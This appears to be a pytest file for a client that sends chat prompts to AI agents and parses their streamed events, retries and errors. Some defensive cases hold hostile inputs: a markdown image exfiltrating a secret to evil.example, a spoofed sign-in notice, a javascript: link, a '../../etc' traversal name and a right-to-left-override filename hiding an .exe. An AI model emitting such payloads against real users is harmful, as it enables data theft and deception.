"""Calls to agents: what is sent, what is read, and what is never sent twice."""

from collections.abc import Callable

import httpx
import pytest

from constructs_lib.frontend.app.chat_app.errors import ChatError, Kind
from constructs_lib.frontend.app.chat_app.events import End, Event, File, Notice, Text, ToolFinished, ToolStarted
from constructs_lib.frontend.app.chat_app.runtime_client import RuntimeClient, http_client
from tests.constructs_lib.frontend.app.fake_cloud import ARN, PICTURE, FakeCloud
from tests.constructs_lib.frontend.app.support import SESSION

MESSAGE = "0123456789abcdef"


def client(cloud: FakeCloud) -> RuntimeClient:
    return RuntimeClient(http_client(), cloud.url, wait=lambda _: None)


def ask(of: RuntimeClient, token: str, prompt: str = "hello there") -> list[Event]:
    with of.ask(ARN, token, SESSION, prompt, MESSAGE) as events:
        return list(events)


def failing(handler: Callable[[httpx.Request], httpx.Response]) -> tuple[RuntimeClient, list[httpx.Request]]:
    seen: list[httpx.Request] = []

    def handle(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return handler(request)

    http = httpx.Client(transport=httpx.MockTransport(handle))
    return RuntimeClient(http, "https://agentcore.example", wait=lambda _: None), seen


def test_sends_the_message_under_the_persons_token(cloud: FakeCloud) -> None:
    events = ask(client(cloud), cloud.token("ann"))
    assert [event.text for event in events if isinstance(event, Text)] == ["You ", "said ", "hello ", "there "]
    assert events[-1] == End("You said hello there")
    (call,) = cloud.calls
    expected = {"prompt": "hello there", "stream": True, "message_id": MESSAGE, "session": SESSION, "arn": ARN}
    assert call == {**expected, "sub": "ann"}


def test_reads_every_kind_of_event_and_leaves_out_what_it_does_not_know(cloud: FakeCloud) -> None:
    import base64

    data = base64.b64encode(PICTURE).decode()
    cloud.events = [
        {"type": "tool", "id": "1", "name": "docs___search"},
        {"type": "tool_result", "id": "1", "name": "docs___search", "status": "error", "sources": ["javascript:x"]},
        {"type": "artifact", "name": "../../etc/x.png", "media_type": "image/png", "data": data},
        {"type": "artifact", "name": "x", "media_type": "image/png", "data": "not base64!"},
        {"type": "notice", "code": "guardrail_masked", "message": "Masked.", "remedy": ""},
        {"type": "tomorrow", "x": 1},
    ]
    assert ask(client(cloud), cloud.token())[:-1] == [
        ToolStarted("1", "docs___search"),
        ToolFinished("1", "docs___search", failed=True, sources=()),
        File("x.png", "image/png", PICTURE),
        Notice("Masked.", "guardrail_masked"),
    ]


@pytest.mark.parametrize(
    "source",
    [
        "https://a.example> ![x](https://evil.example/?q=secret",
        "https://a.example\n\n# Your sign-in has expired",
        "https://a.example\\",
        "https://",
        "https://a.example/" + "a" * 2_000,
    ],
)
def test_an_address_of_a_source_is_nothing_but_an_address(cloud: FakeCloud, source: str) -> None:
    sources = [source, "https://a.example/b?c=d#e"]
    cloud.events = [{"type": "tool_result", "id": "1", "name": "x", "status": "success", "sources": sources}]
    assert ask(client(cloud), cloud.token())[0] == ToolFinished("1", "x", failed=False, sources=(sources[1],))


def test_a_file_shows_its_true_ending(cloud: FakeCloud) -> None:
    cloud.events = [{"type": "artifact", "name": "cost\u202egpj.\nexe", "media_type": "image/png", "data": ""}]
    assert ask(client(cloud), cloud.token())[0] == File("costgpj.exe", "image/png", b"")


def test_reads_agents_that_do_not_stream() -> None:
    of, _ = failing(lambda _: httpx.Response(200, json={"response": "plain", "notices": []}))
    assert ask(of, "t") == [Text("plain"), End("plain")]
    of, _ = failing(lambda _: httpx.Response(200, text="just text"))
    assert ask(of, "t") == [Text("just text"), End("just text")]


def test_an_answer_that_ends_too_soon_is_not_complete(cloud: FakeCloud) -> None:
    cloud.cut_off = True
    with pytest.raises(ChatError, match="broke off") as failed:
        ask(client(cloud), cloud.token())
    assert failed.value.failure.kind is Kind.WAIT


def test_a_throttled_message_is_sent_again_and_answered_once(cloud: FakeCloud) -> None:
    cloud.statuses = [429, 429]
    ask(client(cloud), cloud.token())
    assert cloud.prompts() == ["hello there"]


def test_gives_up_when_it_stays_throttled(cloud: FakeCloud) -> None:
    cloud.statuses = [429] * 4
    with pytest.raises(ChatError, match="Too many people"):
        ask(client(cloud), cloud.token())
    assert cloud.prompts() == []


@pytest.mark.parametrize("error", [httpx.ConnectError("refused"), httpx.ConnectTimeout("slow")])
def test_tries_again_where_nobody_was_reached(error: Exception) -> None:
    def refuse(_: httpx.Request) -> httpx.Response:
        raise error

    of, seen = failing(refuse)
    with pytest.raises(ChatError, match="cannot be reached"):
        ask(of, "t")
    assert len(seen) == 4


@pytest.mark.parametrize(
    ("error", "message"),
    [(httpx.ReadTimeout("silent"), "not answered for a long time"), (httpx.ReadError("reset"), "cannot be reached")],
)
def test_never_sends_again_what_may_have_arrived(error: Exception, message: str) -> None:
    def lose(_: httpx.Request) -> httpx.Response:
        raise error

    of, seen = failing(lose)
    with pytest.raises(ChatError, match=message):
        ask(of, "t")
    assert len(seen) == 1


@pytest.mark.parametrize("status", [500, 502, 503, 504])
def test_never_sends_again_after_a_failure_of_the_service(cloud: FakeCloud, status: int) -> None:
    cloud.statuses = [status]
    with pytest.raises(ChatError, match="service in front of the agent failed"):
        ask(client(cloud), cloud.token())
    assert cloud.prompts() == []


@pytest.mark.parametrize(
    ("status", "kind", "message"),
    [
        (401, Kind.SIGN_IN, "sign-in has expired"),
        (403, Kind.OPERATOR, "not allowed"),
        (404, Kind.OPERATOR, "does not exist"),
        (413, Kind.CHANGE, "too long"),
        (424, Kind.WAIT, "could not start"),
        (400, Kind.OPERATOR, "refused"),
    ],
)
def test_says_what_a_person_can_do(cloud: FakeCloud, status: int, kind: Kind, message: str) -> None:
    cloud.statuses = [status]
    with pytest.raises(ChatError, match=message) as failed:
        ask(client(cloud), cloud.token())
    assert failed.value.failure.kind is kind
    assert "told to fail" not in str(failed.value)
    assert "told to fail" in failed.value.failure.detail


def test_an_expired_token_is_an_expired_sign_in(cloud: FakeCloud) -> None:
    with pytest.raises(ChatError, match="sign-in has expired"):
        ask(client(cloud), cloud.token(seconds=-1))


def test_the_agents_own_errors_are_shown_as_they_are(cloud: FakeCloud) -> None:
    cloud.error = {"code": "model_busy", "message": "The model takes no more.", "remedy": "Wait.", "status": 429}
    with pytest.raises(ChatError, match=r"The model takes no more\. Wait\.") as failed:
        ask(client(cloud), cloud.token())
    assert failed.value.failure.kind is Kind.WAIT


def test_operations_answer_or_fail(cloud: FakeCloud) -> None:
    of = client(cloud)
    assert of.operate(ARN, cloud.token(), SESSION, "list_conversations")["conversations"] == []
    with pytest.raises(ChatError, match="no such conversation"):
        of.operate(ARN, cloud.token(), SESSION, "get_conversation", conversation="x")
    of, _ = failing(lambda _: httpx.Response(200, text="<html>"))
    with pytest.raises(ChatError, match="failed to answer"):
        of.operate(ARN, "t", SESSION, "list_conversations")


def test_stops_a_session_and_does_not_mind_that_it_is_gone(cloud: FakeCloud) -> None:
    client(cloud).stop_session(ARN, cloud.token(), SESSION)
    assert cloud.stopped == [SESSION]
    of, seen = failing(lambda _: httpx.Response(404))
    of.stop_session(ARN, "t", SESSION)
    assert seen[0].url.path.endswith("/stopruntimesession")
